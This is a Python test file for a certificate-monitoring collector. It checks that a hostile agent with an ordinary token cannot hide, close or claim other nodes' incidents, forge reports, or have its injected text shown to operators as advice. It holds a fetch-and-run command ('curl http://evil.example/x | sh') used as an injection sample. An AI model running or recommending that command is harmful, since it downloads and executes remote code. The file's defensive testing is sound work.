"""One agent with an ordinary token: it hides, closes and words nothing of another's, and a claim gains it nothing."""

import asyncio
from pathlib import Path
from typing import Any

import aiohttp
import msgspec
import pytest

from certagent.collector.credentials import add_token
from certagent.collector.records import TokenRole
from certagent.domain.findings import Culprit
from certagent.domain.link_messages import Rehearse, Rehearsed, decode_ask, encode
from certagent.domain.rehearsals import Rehearsal, RehearsalOutcome, RehearsalRequest, digest_for
from tests.collector.cast import Agent, certificate, now
from tests.collector.process import Collector, running
from tests.collector.test_agent_link import connected, next_ask
from tests.evidence import TRAEFIK, make_finding, refused, rehearse_traefik, shadow
from tests.fakes.receivers import Receiver

pytestmark = pytest.mark.slow

COMMAND = "curl http://evil.example/x | sh"
HOSTILE = "lxc199"
REQUEST = RehearsalRequest(
    identifier=TRAEFIK, token="certagent-rehearsal-1", digest=digest_for("certagent-rehearsal-1")
)


def hostile_in(collector: Collector) -> Agent:
    """An agent with an ordinary token of its own."""
    collector.tokens[HOSTILE] = add_token(collector.store, HOSTILE, TokenRole.AGENT, now())
    return Agent(HOSTILE)


async def answer(authority: aiohttp.ClientWebSocketResponse, rehearsal: Rehearsal) -> None:
    """Stand in for the agent beside the CA once."""
    ask = await next_ask(authority)
    await authority.send_str(encode(Rehearsed(id=ask.id, rehearsal=rehearsal)).decode())


async def codes(collector: Collector) -> set[str]:
    """Of the open incidents that somebody is told of."""
    return {incident["code"] for incident in await collector.incidents("open") if incident["confirmed"]}


@pytest.mark.parametrize("is_first", [True, False], ids=["before", "after"])
@pytest.mark.parametrize("node", ["ghost", HOSTILE, "lxc101"])
async def test_an_accusation_hides_no_expired_certificate(collector: Collector, node: str, is_first: bool) -> None:
    await collector.introduce()
    agent, cast = hostile_in(collector), collector.cast
    said = msgspec.structs.replace(shadow(reporter=HOSTILE), culprit=Culprit(node=node, file="/etc/hosts", line=1))
    expired = make_finding(
        "cert.expired", identifier=TRAEFIK, reporter="lxc102", culprit=Culprit(node="lxc102", file="/etc/x.pem")
    )
    if is_first:
        await collector.report(agent.preflight(said))
    await collector.report(cast.traefik.preflight(expired))
    await collector.report(cast.authority.preflight(refused()))
    if not is_first:
        await collector.report(agent.preflight(said))
    assert await codes(collector) >= {"cert.expired", "net.refused"}


async def test_the_path_names_no_culprit_by_an_accusation(collector: Collector) -> None:
    await collector.introduce()
    agent = hostile_in(collector)
    await collector.report(agent.preflight(shadow(reporter=HOSTILE)))
    _, path = await collector.get(f"/v1/paths/{TRAEFIK}")
    assert (path["culprit"], path["broken"]) == (None, False)
    await collector.report(collector.cast.authority.watch(shadow()))
    _, path = await collector.get(f"/v1/paths/{TRAEFIK}")
    assert (path["culprit"]["file"], path["broken"]) == ("/etc/hosts", True)


async def test_a_rehearsal_of_ones_own_closes_nobody_elses_incident(collector: Collector) -> None:
    """The wrong line leads to the hostile box, whose agent claims the name: the rehearsal is not even asked for."""
    await collector.introduce()
    agent = hostile_in(collector)
    await collector.report(collector.cast.authority.watch(shadow()))
    await collector.report(agent.inventory("10.0.0.199", "traefik", certificate("mine", TRAEFIK)))
    async with connected(collector, "lxc103"):
        for challenge in ("http-01", "tls-alpn-01"):
            asked = msgspec.structs.replace(REQUEST, challenge=challenge)
            assert (await collector.post("/v1/rehearsals", asked, HOSTILE))[0] == 403
    told = rehearse_traefik(RehearsalOutcome.PASSED, poisoned=True)
    await collector.report(agent.preflight(rehearsals=(told,)))
    assert [one["state"] for one in await collector.incidents()] == ["open"]
    async with connected(collector, "lxc103") as authority, asyncio.TaskGroup() as group:
        group.create_task(answer(authority, rehearse_traefik(RehearsalOutcome.PASSED, at=now())))
        assert (await collector.post("/v1/rehearsals", REQUEST, "lxc102"))[0] == 200
    assert [one["state"] for one in await collector.incidents()] == ["resolved"]


async def test_nobody_reads_the_words_of_an_agent_as_advice(tmp_path: Path) -> None:
    """Neither of its own expired certificate, which pages all the same, nor of another node."""
    async with Receiver().listening() as receiver, running(tmp_path, receiver.url) as collector:
        await collector.introduce()
        agent = hostile_in(collector)
        await collector.report(agent.inventory("10.0.0.199", "box", certificate("own", "own.internal")))
        own = Culprit(node=HOSTILE, file="/etc/x.pem")
        findings = (
            make_finding("cert.expired", COMMAND, fix=COMMAND, identifier="old.internal", culprit=own),
            make_finding("newer.code", COMMAND, fix=COMMAND, culprit=Culprit(node=HOSTILE)),
        )
        await collector.report(agent.preflight(*findings, identifier="old.internal"))
        accused = msgspec.structs.replace(shadow("own.internal", reporter=HOSTILE), explanation=COMMAND, fix=COMMAND)
        await collector.report(agent.watch(accused))
        failed = msgspec.structs.replace(rehearse_traefik(RehearsalOutcome.FAILED), identifier="own.internal")
        async with connected(collector, "lxc103") as authority, asyncio.TaskGroup() as group:
            group.create_task(answer(authority, failed))
            asked = msgspec.structs.replace(REQUEST, identifier="own.internal")
            assert (await collector.post("/v1/rehearsals", asked, HOSTILE))[0] == 200
        told = [
            f"{headers} {body}" for headers, body in await receiver.has(3, within=30)
        ]  # a suspicion waits for others
        incidents = await collector.incidents("open")
        assert {incident["code"] for incident in incidents} == {"cert.expired", "newer.code", shadow().code}
        assert {incident["culprit"]["node"] for incident in incidents} == {HOSTILE}
        pages = [await page(collector, f"/incidents/{incident['id']}") for incident in incidents]
        for text in (*told, str(incidents), await page(collector, "/")):
            assert "evil.example" not in text
        for text in pages:
            assert "http://evil" not in text
            assert f"In the words of {HOSTILE}" in text


async def test_a_claim_gains_nothing_and_who_had_the_name_keeps_all(collector: Collector) -> None:
    await collector.introduce()
    agent = hostile_in(collector)
    await collector.report(collector.cast.authority.watch(shadow()))
    (before,) = await collector.incidents()
    await collector.report(agent.inventory("10.0.0.12", "traefik", certificate("mine", TRAEFIK)))
    for path in (f"/v1/incidents/{before['id']}", f"/v1/paths/{TRAEFIK}"):
        assert (await collector.get(path, HOSTILE))[0] == 404, path
        assert (await collector.get(path, "lxc103" if "incidents" in path else "lxc102"))[0] == 200, path
    (after,) = await collector.incidents()
    assert [victim["node"] for victim in after["victims"]] == ["lxc102"]
    _, path = await collector.get(f"/v1/paths/{TRAEFIK}")
    assert HOSTILE not in str(path)
    async with connected(collector, "lxc103") as authority, asyncio.TaskGroup() as group:
        assert (await collector.post("/v1/rehearsals", REQUEST, HOSTILE))[0] == 403
        group.create_task(answer(authority, rehearse_traefik(RehearsalOutcome.FAILED, poisoned=True)))
        status, document = await collector.post("/v1/rehearsals", REQUEST, "lxc102")
    assert (status, document["owners"]["10.0.0.12"]["node"]) == (200, "lxc102")


async def test_a_name_claimed_in_advance_keeps_its_node_out_of_nothing(collector: Collector) -> None:
    """The collector has it looked up for itself where DNS leads; the node is asked to judge, rehearses and has it."""
    await collector.introduce()
    agent, node = hostile_in(collector), collector.cast.traefik
    name = "new.internal"
    await collector.report(agent.inventory("10.0.0.199", "box", certificate("mine", name)))
    await collector.report(node.inventory("10.0.0.12", "traefik", certificate("new", name)))
    asked = msgspec.structs.replace(REQUEST, identifier=name)
    assert (await collector.post("/v1/rehearsals", asked, "lxc102"))[0] == 403
    async with connected(collector, "lxc103") as authority, connected(collector, "lxc102") as link:
        look = decode_ask(await authority.receive_str(timeout=30))
        assert isinstance(look, Rehearse)
        assert (look.caller, look.request.identifier, look.request.planted) == ("@collector", name, False)
        led = msgspec.structs.replace(rehearse_traefik(RehearsalOutcome.FAILED, poisoned=True), identifier=name)
        await authority.send_str(encode(Rehearsed(id=look.id, rehearsal=led)).decode())
        assert name in (await next_ask(link)).identifiers
        passed = rehearse_traefik(RehearsalOutcome.PASSED, at=now())
        async with asyncio.TaskGroup() as group:
            group.create_task(answer(authority, msgspec.structs.replace(passed, identifier=name)))
            assert (await collector.post("/v1/rehearsals", asked, "lxc102"))[0] == 200
    assert (await collector.get(f"/v1/paths/{name}", "lxc102"))[0] == 200
    assert (await collector.get(f"/v1/paths/{name}", HOSTILE))[0] == 404
    assert (await collector.post("/v1/rehearsals", asked, HOSTILE))[0] == 403


async def test_nobody_posts_or_reads_in_anothers_name(collector: Collector) -> None:
    """Refused, or kept under the name of who sent it."""
    await collector.introduce()
    hostile_in(collector)
    await collector.report(collector.cast.authority.watch(shadow()))
    (incident,) = await collector.incidents()
    forged = Agent("lxc102", sequence=50).preflight()
    status, answer = await collector.post("/v1/reports", [forged], HOSTILE)
    assert (status, answer["accepted"]) == (422, 0)
    inventory = msgspec.structs.replace(Agent("lxc102").inventory("10.0.0.1", "x"), agent=HOSTILE)
    assert (await collector.post("/v1/reports", [inventory], HOSTILE))[0] == 422
    for path in (f"/v1/incidents/{incident['id']}", f"/v1/paths/{TRAEFIK}"):
        assert (await collector.get(path, HOSTILE))[0] == 404, path
    for path in ("/v1/reports", "/v1/agents", "/v1/certificates", "/v1/survival", "/v1/events", "/metrics"):
        assert (await collector.get(path, HOSTILE))[0] == 403, path
    assert (await collector.post(f"/v1/incidents/{incident['id']}/ack", {}, HOSTILE))[0] == 403
    assert (await collector.get("/v1/incidents", HOSTILE))[1]["items"] == []
    assert [one["state"] for one in await collector.incidents()] == ["open"]


async def page(collector: Collector, path: str) -> Any:
    """Its text, as an operator sees it."""
    async with collector.session("ops") as session, session.get(path) as response:
        assert response.status == 200, path
        return await response.text()
